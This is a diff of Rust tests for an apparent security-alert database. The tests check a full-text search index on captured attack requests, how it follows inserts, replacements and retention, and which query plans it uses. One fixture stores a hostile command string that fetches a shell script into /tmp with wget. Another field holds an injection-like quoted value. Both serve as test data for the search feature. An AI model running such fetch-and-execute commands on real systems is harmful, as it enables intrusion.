@@ -2,7 +2,8 @@
 
 use super::*;
 use crate::domain::{
-    AlertCursor, DataDomain, TimeField, TimeRange, TokenHash, UNDEFINED_HOSTNAME, rank_terms,
+    AlertCursor, DataDomain, SearchText, TimeField, TimeRange, TokenHash, UNDEFINED_HOSTNAME,
+    rank_terms,
 };
 use ipnet::IpNet;
 use std::collections::{BTreeMap, BTreeSet, HashMap};
@@ -847,6 +848,79 @@ async fn typical_questions_use_rollups() {
     assert!(latest.contains("alerts_rt"), "{latest}");
 }
 
+/// Turns a database back into the layout before version 3 (no search index).
+const WITHOUT_SEARCH_INDEX: &str = "DROP TRIGGER alert_text_insert; DROP TRIGGER alert_text_update; \
+     DROP TRIGGER alert_text_delete; DROP TABLE alert_text;";
+
+fn text_filter(text: &str) -> AlertFilter {
+    let mut filter = AlertFilter::domain(DataDomain::All);
+    filter.text = Some(SearchText::parse(text).unwrap());
+    filter
+}
+
+#[tokio::test]
+async fn the_search_index_follows_inserts_replacements_and_retention() {
+    let (_dir, store) = open();
+    let mut a = full_alert("t1");
+    a.original_request_string = "cd /tmp; /usr/bin/WGET -q http://x/y.sh".into();
+    let mut b = full_alert("t2");
+    b.original_request_string = "GET / HTTP/1.1".into();
+    b.username = Some("Wgetter".into());
+    b.password = Some("\"quoted\" OR pass".into());
+    b.recieved_time = ts(T0 + 10_000);
+    put(&store, vec![a.clone(), b]).await;
+    let count = |text: &'static str| {
+        let store = &store;
+        async move { store.count(&text_filter(text)).await.unwrap() }
+    };
+    assert_eq!(count("wget").await, 2);
+    assert_eq!(count("WGET -Q").await, 1);
+    assert_eq!(count("\"quoted\" or").await, 1);
+    assert_eq!(count("\" OR \"").await, 0);
+    assert_eq!(count("NEAR(wget").await, 0);
+    // A replacement by the same sender re-indexes the alert.
+    a.original_request_string = "uname -a".into();
+    put(&store, vec![a]).await;
+    assert_eq!(count("wget").await, 1);
+    assert_eq!(count("UNAME").await, 1);
+    // Retention takes the alert's index entries along.
+    assert_eq!(
+        crate::retention::pass(&store, ts(T0 + 5_000))
+            .await
+            .unwrap(),
+        1
+    );
+    assert_eq!(count("uname").await, 0);
+    assert_eq!(count("wget").await, 1);
+}
+
+#[test]
+fn a_selective_search_reads_the_search_index_first() {
+    let (dir, _store) = open();
+    let conn = rusqlite::Connection::open(dir.path().join(DATABASE_FILE)).unwrap();
+    // The statement shapes of `read::raw_rows` for a count and a page with a text filter.
+    let text = "rowid IN (SELECT rowid FROM alert_text WHERE alert_text MATCH '\"wget\"')";
+    for sql in [
+        format!("SELECT COUNT(*) FROM alerts WHERE 1 AND dom = 1 AND rt >= 0 AND {text}"),
+        format!(
+            "SELECT id FROM alerts WHERE 1 AND rt >= 0 AND {text} ORDER BY rt DESC, id DESC LIMIT 35"
+        ),
+    ] {
+        let mut stmt = conn.prepare(&format!("EXPLAIN QUERY PLAN {sql}")).unwrap();
+        let plan = stmt
+            .query_map([], |r| r.get::<_, String>(3))
+            .unwrap()
+            .map(Result::unwrap)
+            .collect::<Vec<_>>()
+            .join("; ");
+        assert!(
+            plan.contains("SCAN alert_text VIRTUAL TABLE INDEX")
+                && plan.contains("SEARCH alerts USING INTEGER PRIMARY KEY (rowid=?)"),
+            "{sql}: {plan}"
+        );
+    }
+}
+
 #[tokio::test]
 async fn version_1_databases_get_the_received_location_rollups() {
     let (dir, store) = open();
@@ -885,6 +959,7 @@ async fn version_1_databases_get_the_received_location_rollups() {
         // As version 1 left it: no such rollups.
         conn.execute("DELETE FROM rollup WHERE tf = 0 AND dim IN (8, 9)", [])
             .unwrap();
+        conn.execute_batch(WITHOUT_SEARCH_INDEX).unwrap();
         conn.pragma_update(None, "user_version", 1).unwrap();
         written
     };
